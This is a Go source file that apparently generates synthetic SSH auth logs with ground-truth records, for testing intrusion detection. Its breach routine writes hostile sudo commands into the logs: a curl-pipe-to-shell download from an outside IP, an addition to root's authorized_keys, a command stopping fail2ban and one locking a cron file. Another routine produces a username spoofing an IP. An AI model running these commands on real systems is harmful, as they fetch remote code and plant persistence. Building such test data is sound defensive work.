package main

import (
	"fmt"
	"strings"
)

// attack starts one new hostile address.
func (a *auth) attack(t int64) {
	k := a.foes
	a.foes++
	ip := attackerIP(k)
	if k%40 == 17 {
		ip = visitorIP(5 + 12*(70000+k)) // IPv6
	}
	f := a.newFoe(ip)
	switch x := a.r.n(1000); {
	case x < 430: // burst until banned
		f.conns = a.r.span(3, 40)
	case x < 800: // low and slow, under the threshold
		f.slow = true
		f.conns = a.r.span(2, 60)
	default:
		a.probe(t, f)
		return
	}
	a.at(t, func(t int64) { a.conn(t, f) })
}

func (a *auth) user() string {
	r := a.r
	switch x := r.n(1000); {
	case x < 260:
		return "root"
	case x < 300:
		return bruteUsers[1]
	case x < 900:
		return bruteUsers[min(r.n(len(bruteUsers)), r.n(len(bruteUsers)))]
	case x < 960:
		return bruteUsers[r.n(len(bruteUsers))] + string(appendInt(nil, int64(r.n(200)), 0, 0))
	case x < 990:
		return bruteUsers[90+r.n(30)] + "." + bruteUsers[120+r.n(40)]
	case x < 994:
		return ""
	case x < 997:
		return `\303\251\303\240` + r.hex(4)
	default:
		return r.b64(r.span(6, 14))
	}
}

// conn is one hostile connection and, if the burst goes on, the next one.
func (a *auth) conn(t int64, f *foe) {
	if !f.banned && t < a.out.end {
		f.port += a.r.span(2, 60)
		if f.port > 60999 {
			f.port = 32768 + a.r.n(2000)
		}
		a.sshFail(t, f, a.user(), 0)
	}
	f.conns--
	if f.conns <= 0 || f.banned {
		return
	}
	d := int64(a.r.span(900, 9000)) * 1e3
	if f.slow {
		d = int64(a.r.span(240, 5400)) * 1e6
	}
	a.at(t+d, func(t int64) { a.conn(t, f) })
}

func (a *auth) sshFail(t int64, f *foe, user string, tries int) {
	r, pid, ip, port := a.r, a.next(), f.ip, f.port
	at := func(t int64, msg string, e ev) {
		e.t, e.text, e.foe = t, a.fmt(t, "sshd", pid, msg), f
		if e.ips == nil {
			e.ips = []string{ip}
		}
		a.push(e)
	}
	from := fmt.Sprintf("%s port %d", ip, port)
	rhost := ip
	var rips []string
	if f.rdns != "" {
		rhost = f.rdns
		rips = []string{}
	}
	if f.rdns != "" && r.pm(300) {
		at(t, "reverse mapping checking getaddrinfo for "+f.rdns+" ["+ip+"] failed.", ev{})
	}
	known := user == "root" || user == "backup" || user == "www-data" || user == "deploy" || user == "postgres"
	if tries == 0 {
		tries = 1
		if known && r.pm(280) {
			tries = r.span(2, 6)
		}
	}
	who := user
	if !known {
		injected := []string(nil)
		if r.n(4000) == 0 { // a name made to look like an address: the last "from" is the true one
			user = "root from 198.51.100.77"
			injected = []string{"198.51.100.77", ip}
			who = user
		}
		at(t, fmt.Sprintf("Invalid user %s from %s", user, from), ev{inv: true, ips: injected})
		at(t+3000, "pam_unix(sshd:auth): check pass; user unknown", ev{ips: []string{}})
		at(t+3100, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="+rhost+" ", ev{ips: rips})
		t += int64(r.span(1200, 2900)) * 1e3
		at(t, fmt.Sprintf("Failed password for invalid user %s from %s ssh2", user, from), ev{fail: 1, user: who, ips: injected})
		t += int64(r.span(60, 1900)) * 1e3
		switch x := r.n(100); {
		case x < 55:
			at(t, "Received disconnect from "+from+":11: Bye Bye [preauth]", ev{})
			at(t+100, "Disconnected from invalid user "+user+" "+from+" [preauth]", ev{ips: injected})
		case x < 90:
			at(t, "Connection closed by invalid user "+user+" "+from+" [preauth]", ev{ips: injected})
		default:
			at(t, "Connection reset by invalid user "+user+" "+from+" [preauth]", ev{ips: injected})
		}
		return
	}
	at(t, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="+rhost+"  user="+user, ev{ips: rips})
	t += int64(r.span(1200, 2900)) * 1e3
	msg := "Failed password for " + user + " from " + from + " ssh2"
	at(t, msg, ev{fail: 1, user: who})
	if tries > 2 && r.pm(450) { // rsyslog folds equal messages
		t += int64(r.span(4000, 9000)) * 1e3
		at(t, fmt.Sprintf("message repeated %d times: [ %s]", tries-1, msg), ev{fail: tries - 1, user: who})
	} else {
		for i := 1; i < tries; i++ {
			t += int64(r.span(1800, 3900)) * 1e3
			at(t, msg, ev{fail: 1, user: who})
		}
	}
	t += int64(r.span(60, 1500)) * 1e3
	switch {
	case tries == 6:
		at(t, "error: maximum authentication attempts exceeded for "+user+" from "+from+" ssh2 [preauth]", ev{})
		at(t+40, "Disconnecting authenticating user "+user+" "+from+": Too many authentication failures [preauth]", ev{})
	case r.pm(500):
		at(t, "Received disconnect from "+from+":11: "+r.pick([]string{"", "Bye Bye", "Bye Bye", "disconnected by user", "Normal Shutdown, Thank you for playing"})+" [preauth]", ev{})
		at(t+40, "Disconnected from authenticating user "+user+" "+from+" [preauth]", ev{})
	default:
		at(t, "Connection "+r.pick([]string{"closed", "reset"})+" by authenticating user "+user+" "+from+" [preauth]", ev{})
	}
	if tries > 1 {
		s := "s"
		if tries == 2 {
			s = ""
		}
		at(t+90, fmt.Sprintf("PAM %d more authentication failure%s; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s", tries-1, s, rhost, user), ev{ips: rips})
	}
}

// probe knocks without a login.
func (a *auth) probe(t int64, f *foe) {
	r := a.r
	for i, n := 0, r.span(1, 6); i < n; i++ {
		pid := a.next()
		from := fmt.Sprintf("%s port %d", f.ip, r.span(1025, 65000))
		at := func(t int64, msg string, ips ...string) { a.line(t, "sshd", pid, msg, ips...) }
		switch r.n(6) {
		case 0:
			at(t, "error: kex_exchange_identification: Connection closed by remote host")
			at(t+50, "Connection closed by "+from, f.ip)
		case 1:
			at(t, "error: kex_exchange_identification: client sent invalid protocol identifier \"GET / HTTP/1.1\"")
			at(t+50, "banner exchange: Connection from "+from+": invalid format", f.ip)
		case 2:
			at(t, "Unable to negotiate with "+from+": no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]", f.ip)
		case 3:
			at(t, "Connection closed by "+from+" [preauth]", f.ip)
		case 4:
			at(t, "Connection reset by "+from+" [preauth]", f.ip)
		default:
			at(t, "Did not receive identification string from "+from, f.ip)
		}
		t += int64(r.span(1, 400)) * 1e6
	}
}

func (a *auth) sweep(t0 int64, i int, dur int64) {
	net := byte(10 + i%200)
	n := new(int64)
	a.sweepFails = append(a.sweepFails, n)
	a.tr.Sweeps = append(a.tr.Sweeps, sweepTruth{Net: fmt.Sprintf("%d.%d.%d.0/24", sweepA, sweepB, net), From: isoT(t0), To: isoT(t0 + dur), Hosts: 254})
	for h := 1; h <= 254; h++ {
		f := a.newFoe(v4(sweepA, sweepB, net, byte(h)))
		f.onFail = n
		for c := 0; c < 2; c++ {
			a.at(t0+int64(a.r.n(int(dur/1e6)))*1e6, func(t int64) {
				f.port += a.r.span(2, 900)
				a.sshFail(t, f, a.user(), 1)
			})
		}
	}
}

func (a *auth) flood(t0, dur int64) {
	n := new(int64)
	a.floodFails = append(a.floodFails, n)
	f := a.newFoe(attackerIP(5000000 + len(a.floodFails)))
	f.onFail = n
	f.rdns = ""
	a.tr.Floods = append(a.tr.Floods, floodTruth{IP: f.ip, From: isoT(t0), To: isoT(t0 + dur)})
	a.at(t0-2e6, func(t int64) {
		a.f2b(t, "server", "INFO   ", "Shutdown in progress...")
		a.f2b(t+90000, "jail", "INFO   ", "Jail 'sshd' stopped")
		a.f2b(t+130000, "server", "INFO   ", "Exiting Fail2ban")
		a.f2bDown = true
	})
	a.at(t0+dur, func(t int64) {
		a.f2bDown = false
		a.f2b(t+1000, "server", "INFO   ", "Starting Fail2ban v1.0.2")
		a.f2b(t+60000, "jail", "INFO   ", "Jail 'sshd' started")
	})
	var again func(t int64)
	again = func(t int64) {
		f.port += a.r.span(1, 9)
		if f.port > 60999 {
			f.port = 32768
		}
		a.sshFail(t, f, a.user(), 0)
		if d := int64(a.r.span(200, 1600)) * 1e3; t+d < t0+dur {
			a.at(t+d, again)
		}
	}
	a.at(t0, again)
}

func (a *auth) breach(t0 int64, s staff) {
	f := a.newFoe(attackerIP(6000000))
	f.rdns = ""
	n := new(int64)
	f.onFail = n
	t := t0 - 6*3600e6
	if t < a.out.start {
		t = a.out.start
	}
	step := (t0 - t) / 27
	for i := 0; i < 26; i++ {
		a.at(t+int64(i)*step, func(t int64) { f.port += 211; a.sshFail(t, f, s.name, 1) })
	}
	cmds := []string{"/usr/bin/id", "/bin/bash -c curl -s http://185.234.72.19/x.sh|sh", "/usr/bin/tee -a /root/.ssh/authorized_keys", "/usr/bin/systemctl stop fail2ban", "/usr/bin/chattr +i /etc/cron.d/.s"}
	a.at(t0, func(t int64) {
		a.tr.Breach = append(a.tr.Breach, breachTruth{f.ip, s.name, *n, isoT(t), len(cmds)})
		a.tr.Accepted[f.ip]++
		a.login(t, s, f.ip, "password", 1900e6)
		for i, c := range cmds {
			ips := []string(nil)
			if strings.Contains(c, "185.234.72.19") {
				ips = []string{"185.234.72.19"}
			}
			a.sudo(t+int64(60+i*240)*1e6, s, "/tmp", c, ips...)
		}
	})
}
